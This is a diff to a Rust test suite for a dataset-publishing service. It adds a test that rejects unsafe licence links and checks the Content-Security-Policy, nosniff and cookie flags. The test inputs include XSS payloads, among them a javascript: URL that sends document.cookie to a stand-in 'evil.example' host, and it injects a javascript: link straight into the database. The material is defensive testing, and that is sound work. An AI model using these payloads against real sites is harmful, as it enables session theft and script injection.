@@ -22,6 +22,7 @@ on_both_backends!(
     log_pages_are_bounded_in_bytes,
     writes_over_the_rate_get_429_with_retry_after,
     connections_per_address_are_bounded_and_slow_headers_time_out,
+    licence_links_are_web_urls_and_pages_run_no_inline_script,
 );
 
 const LICENSED_CSV: &[u8] = "身份证号,诊断\n110101199001010011,高血压\n".as_bytes();
@@ -489,4 +490,78 @@ async fn connections_per_address_are_bounded_and_slow_headers_time_out(backend: 
     }
     // Their slots are free again.
     assert_eq!(app.get("/healthz").await.status(), StatusCode::OK);
+}
+
+async fn licence_links_are_web_urls_and_pages_run_no_inline_script(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let publisher = app.publisher("city").await;
+    let mut hostile = metadata("hostile", "open");
+    hostile["license"] = json!({"id": "点我 click", "url": "javascript:fetch('//evil.example/'+document.cookie)"});
+    assert!(app.upload(&publisher, b"a,b\n1,2\n").await.status().is_success());
+    let files = json!([{"name": "a.csv", "mediaType": "text/csv", "size": 8, "sha256": sha256_hex(b"a,b\n1,2\n")}]);
+    for url in [
+        "javascript:alert(1)",
+        " JAVASCRIPT:alert(1)",
+        "data:text/html,<script>alert(1)</script>",
+        "//evil.example/x",
+        "https://",
+    ] {
+        hostile["license"]["url"] = json!(url);
+        let response = app
+            .post_version(&publisher, "hostile", json!({"metadata": hostile, "files": files}))
+            .await;
+        let problem = assert_problem(response, StatusCode::BAD_REQUEST, "invalid-request").await;
+        assert!(
+            problem["detail"].as_str().is_some_and(|d| d.contains("license.url")),
+            "{problem}"
+        );
+    }
+
+    // A licence link stored before publishing checked it is not rendered as a link either.
+    let mut fine = metadata("fine", "open");
+    fine["license"] = json!({"id": "CC-BY-4.0", "url": "https://creativecommons.org/licenses/by/4.0/"});
+    let response = app
+        .post_version(&publisher, "fine", json!({"metadata": fine, "files": files}))
+        .await;
+    assert_eq!(response.status(), StatusCode::CREATED);
+    let page = app.get("/datasets/fine").await.text().await.expect("page");
+    assert!(page.contains("href=\"https://creativecommons.org/licenses/by/4.0/\""));
+    app.tamper("UPDATE datasets SET metadata = REPLACE(metadata, 'https://creativecommons.org/licenses/by/4.0/', 'javascript:alert(1)')")
+        .await;
+    let page = app.get("/datasets/fine").await;
+    let headers = page.headers().clone();
+    let page = page.text().await.expect("page");
+    assert!(page.contains("CC-BY-4.0"));
+    assert!(!page.to_ascii_lowercase().contains("javascript:"), "{page}");
+
+    let csp = headers["content-security-policy"].to_str().expect("ascii");
+    for directive in [
+        "default-src 'none'",
+        "script-src 'self'",
+        "frame-ancestors 'none'",
+        "base-uri 'none'",
+    ] {
+        assert!(csp.contains(directive), "{csp}");
+    }
+    assert!(!csp.contains("unsafe-inline"));
+    assert_eq!(headers["x-content-type-options"], "nosniff");
+    assert!(headers.contains_key("referrer-policy"));
+    let inline_scripts = page.matches("<script").count() - page.matches("<script src=").count();
+    assert_eq!(inline_scripts, 0, "every script is a file the CSP allows");
+    let script = app.get("/static/copy.js").await;
+    assert_eq!(script.status(), StatusCode::OK);
+    assert!(
+        script.headers()["content-type"]
+            .to_str()
+            .expect("ascii")
+            .starts_with("text/javascript")
+    );
+
+    let english = app.get("/?lang=en").await;
+    let cookie = english.headers()["set-cookie"].to_str().expect("ascii").to_owned();
+    assert!(
+        cookie.contains("SameSite=Lax") && cookie.contains("HttpOnly"),
+        "{cookie}"
+    );
+    assert!(!cookie.contains("Secure"), "plain-http node: {cookie}");
 }
